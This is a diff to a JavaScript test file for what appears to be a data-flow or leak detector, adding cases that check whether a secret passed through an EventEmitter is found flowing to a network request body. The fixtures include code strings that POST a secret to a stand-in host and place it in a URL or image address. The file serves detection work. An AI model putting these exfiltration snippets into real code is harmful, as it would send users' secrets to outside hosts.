@@ -37,6 +37,34 @@ describe("what goes out", () => {
   });
 
   test.each([
+    [
+      "to who listens",
+      `b.on("a", (x) => fetch("https://a.test/x", { method: "POST", body: x })); b.emit("a", t);`,
+      true,
+    ],
+    [
+      "to who listens later",
+      `b.emit("a", t); b.once("a", (x) => fetch("https://a.test/x", { method: "POST", body: x }));`,
+      true,
+    ],
+    [
+      "under a name in a variable",
+      `b.on(process.argv[2], (x) => fetch("https://a.test/x", { method: "POST", body: x })); b.emit("a", t);`,
+      true,
+    ],
+    [
+      "under another name",
+      `b.on("b", (x) => fetch("https://a.test/x", { method: "POST", body: x })); b.emit("a", t);`,
+      false,
+    ],
+  ])("an emitter tells: %s", (_, code, isTold) => {
+    const found = foundIn(
+      `${secret} const { EventEmitter } = require("events"); const b = new EventEmitter(); ${code}`,
+    );
+    expect(found.flows.includes("src.env.secret -> snk.net:body")).toBe(isTold);
+  });
+
+  test.each([
     ["in the address", `fetch("https://a.test/?t=" + t);`, "snk.net:url"],
     ["in an image's address", `new Image().src = "https://a.test/?t=" + t;`, "snk.net:url"],
     [
